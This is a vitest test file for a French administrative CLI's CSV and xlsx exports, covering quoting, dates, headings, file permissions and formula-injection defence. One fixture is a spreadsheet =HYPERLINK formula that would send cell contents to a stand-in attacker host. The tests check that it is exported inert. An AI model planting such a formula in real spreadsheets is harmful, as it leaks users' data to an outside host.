import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { run as runProgram } from '../../src/cli.js';
import { DIALECTS, freshLocation, type FreshLocation } from '../helpers/stores.js';
import { testIo } from '../helpers/cli.js';
import { HEAVY, clis } from './fixtures.js';

/**
 * Output for scripts and spreadsheets (SPEC 4, issue 15): CSV per RFC 4180 (a cell holding `;`,
 * `"`, CR or LF quoted) under the JSON keys whatever the language, UTF-8 without BOM, read back
 * by a real CSV parser; `audit export --format csv` is CSV; `--format xlsx` a workbook read back
 * by exceljs: the user's labels as headings, real dates and numbers, an autofilter, and a
 * formula in stored text kept inert.
 */

const FIXTURES = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../fixtures');
const NOW = '2026-12-03T14:19:20.787Z'; // 15:19 in Paris
const PAULINE = 'pauline.dufour@mairie-pau.fr'; // GP of COMMUNE DE PAU in fixtures/madrhas.csv
const ANNE = 'anne-marie.le-gall@mont-de-marsan.fr';
const PAU = '21640445900010';
/** A raison sociale with the delimiter, a quote and a CRLF: each must be quoted in a CSV. */
const AWKWARD = 'COMMUNE; DE "PAU"\r\nLIGNE 2';
/** One with a line feed alone: csv-stringify quotes it only when told to. */
const MUSEE = '19640001400011';
const TWO_LINES = 'MUSÉE NATIONAL\nDU CHÂTEAU DE PAU';
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")';
const ENV = { TZ: 'Europe/Paris' };

const csv = (text: string) =>
  parse<Record<string, string>>(text, { delimiter: ';', columns: true, record_delimiter: '\r\n' });

describe.each(DIALECTS)('outputs for scripts and spreadsheets (%s)', HEAVY, (dialect) => {
  let fresh: FreshLocation;
  let corr: ReturnType<typeof clis>['corr'];
  let as: ReturnType<typeof clis>['as'];
  beforeEach(async () => {
    fresh = await freshLocation(dialect, 'seeded');
    ({ corr, as } = clis(fresh.location, { now: NOW, env: ENV }));
    const directory = fs
      .readFileSync(path.join(FIXTURES, 'annuaire.csv'), 'utf8')
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    const pau = directory
      .find((l) => l.startsWith(`SIRET;${PAU};`))!
      .replace('COMMUNE DE PAU', `"${AWKWARD.replace(/"/g, '""')}"`);
    const file = path.join(fresh.dir, 'annuaire-maj.csv');
    const musee = directory
      .find((l) => l.startsWith(`SIRET;${MUSEE};`))!
      .replace('MUSÉE NATIONAL DU CHÂTEAU DE PAU', `"${TWO_LINES}"`);
    fs.writeFileSync(file, `${directory[0]}\r\n${pau}\r\n${musee}\r\n`);
    const imported = await corr('structure', 'import', file);
    expect(imported.code, imported.stderr).toBe(0);
    expect((await corr('sync', 'madrhas', path.join(FIXTURES, 'madrhas.csv'))).code).toBe(1);
    const request = await as(ANNE)('attachment', 'request', PAU, '--comment', HYPERLINK);
    expect(request.code, request.stderr).toBe(0);
  });
  afterEach(async () => {
    await fresh.cleanup();
  });

  it('CSV: RFC 4180, the JSON keys as header in French and in English, no BOM, codes and ISO dates', async () => {
    const outputs: string[] = [];
    for (const lang of ['fr', 'en']) {
      const r = await corr('--lang', lang, 'structure', 'search', 'pau', '--format', 'csv');
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdoutBytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
      expect(r.stdout.split('\r\n')[0]).toBe(
        'idType;identifier;companyName;postalCode;city;active',
      );
      const rows = csv(r.stdout);
      const pau = rows.find((row) => row.identifier === PAU)!;
      // the delimiter, the quote and the CRLF come back as they were stored
      expect(pau).toEqual({
        idType: 'SIRET',
        identifier: PAU,
        companyName: AWKWARD,
        postalCode: '64000',
        city: 'PAU',
        active: 'true',
      });
      expect(rows.find((row) => row.identifier === MUSEE)!.companyName).toBe(TWO_LINES);
      // quoted, or a reader that ends records at any line feed (Python's) cuts the record in two
      expect(r.stdout).toContain(`;"${TWO_LINES}";`);
      outputs.push(r.stdout);
    }
    // the same bytes whatever the language
    expect(outputs[0]).toBe(outputs[1]);

    const pending = await as(PAULINE)('attachment', 'pending', '--format', 'csv');
    expect(pending.code, pending.stderr).toBe(0);
    const [row] = csv(pending.stdout);
    expect(Object.keys(row!)).toEqual([
      'id',
      'account',
      'structure',
      'services',
      'dateStart',
      'dateEnd',
      'comment',
      'requestedAt',
    ]);
    // a formula gets its leading quote; the instant stays ISO 8601
    expect(row!.comment).toBe(`'${HYPERLINK}`);
    expect(row!.requestedAt).toBe(NOW);
  });

  it('audit list and audit export --format csv: one record per entry, the changes quoted', async () => {
    const list = await corr('audit', 'list', '--format', 'csv');
    expect(list.code, list.stderr).toBe(0);
    const listed = csv(list.stdout);
    expect(Object.keys(listed[0]!)).toEqual([
      'seq',
      'at',
      'actor',
      'action',
      'target',
      'outcome',
      'changes',
      'reason',
    ]);
    const exported = await corr('audit', 'export', '--format', 'csv');
    expect(exported.code, exported.stderr).toBe(0);
    expect(exported.stdout.split('\r\n')[0]).toBe(
      // fromRun: a sync's accounts, read from its run's rows (issue 16 point 9)
      'seq;at;actor;action;target;outcome;changes;reason;runId;hash;fromRun',
    );
    const entries = csv(exported.stdout);
    const jsonLines = (await corr('audit', 'export')).stdout.trimEnd().split('\n');
    expect(entries).toHaveLength(jsonLines.length);
    const request = entries.find((e) => e.action === 'attachment.request')!;
    expect(request.outcome).toBe('OK');
    expect(request.hash).toMatch(/^[0-9a-f]{64}$/);
    expect(JSON.parse(request.changes!)).toMatchObject({ comment: HYPERLINK });
  });

  it('xlsx: French headings, a real date and number, an autofilter, the formula inert, 0600', async () => {
    const file = path.join(fresh.dir, 'attente.xlsx');
    const r = await as(PAULINE)('attachment', 'pending', '--format', 'xlsx', '-o', file);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe('');
    expect(fs.statSync(file).mode & 0o777).toBe(0o600);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const sheet = workbook.worksheets[0]!;
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual([
      'N°',
      'Compte',
      'Structure',
      'Services',
      'Début',
      'Fin',
      'Commentaire',
      'Demandé le',
    ]);
    const row = sheet.getRow(2);
    expect(typeof row.getCell(1).value).toBe('number');
    const requested = row.getCell(8);
    expect(requested.value).toBeInstanceOf(Date);
    // the wall-clock time in Paris, as spreadsheets keep dates (no zone)
    expect((requested.value as Date).toISOString()).toBe('2026-12-03T15:19:00.000Z');
    expect(requested.numFmt).toBe('dd/mm/yyyy hh:mm');
    const comment = row.getCell(7);
    expect(comment.type).toBe(ExcelJS.ValueType.String);
    expect(comment.formula).toBeUndefined();
    expect(comment.value).toBe(`'${HYPERLINK}`);
    expect(sheet.autoFilter).toBeTruthy();
    expect(sheet.getColumn(2).width).toBeGreaterThanOrEqual(ANNE.length);

    // never over an existing file: 6, and the workbook is untouched
    const before = fs.readFileSync(file);
    const again = await as(PAULINE)('attachment', 'pending', '--format', 'xlsx', '-o', file);
    expect(again.code).toBe(6);
    expect(fs.readFileSync(file).equals(before)).toBe(true);
  });

  it('xlsx in English, to stdout when it is not a terminal; on a terminal: 2', async () => {
    const r = await corr('--lang', 'en', 'account', 'list', '--format', 'xlsx');
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdoutBytes.subarray(0, 2).toString()).toBe('PK');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(r.stdoutBytes).buffer);
    const sheet = workbook.worksheets[0]!;
    expect((sheet.getRow(1).values as unknown[]).slice(1, 4)).toEqual(['Login', 'Status', 'Kind']);
    // labels of the user's language in the cells, codes nowhere
    expect((sheet.getColumn(2).values as unknown[]).slice(2)).toContain('Active');

    const { io, result } = testIo({ env: ENV });
    (io.stdout as { isTTY?: boolean }).isTTY = true;
    const code = await runProgram(
      ['--db', fresh.location, '--as', PAULINE, 'account', 'show', '--format', 'xlsx'],
      io,
    );
    await new Promise((resolve) => setImmediate(resolve));
    expect(code).toBe(2);
    expect(result(code).stdout).toBe('');
    expect(result(code).stderr).toContain('-o FICHIER.xlsx');
  });
});
